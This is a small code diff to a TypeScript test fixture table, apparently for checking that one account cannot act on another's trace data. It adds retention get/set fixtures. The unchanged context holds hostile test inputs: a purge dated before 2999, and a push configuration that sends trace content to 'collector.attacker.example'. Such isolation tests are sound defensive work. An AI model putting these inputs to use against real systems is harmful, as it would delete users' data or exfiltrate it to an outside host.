@@ -88,6 +88,8 @@ const fixtures: { [M in MethodName]: (world: World) => MethodInput<M> } = {
   'traces.export': (w) => ({ traceId: w.traceA }),
   // Everything before the year 2999: a purge that reached account A would empty it.
   'traces.purge': () => ({ before: '2999-01-01T00:00:00Z', dryRun: false }),
+  'traces.retention.get': () => ({}),
+  'traces.retention.set': () => ({ retentionDays: 1 }),
   'traces.pushConfig': () => ({}),
   'traces.setPushConfig': () => ({ enabled: true, endpoint: 'http://collector.attacker.example/v1/traces', includeContent: true }),
   'feedback.submit': (w) => ({ traceId: w.traceA, spanId: w.spanA, feedback: { rating: 1, comment: 'intruder' } }),
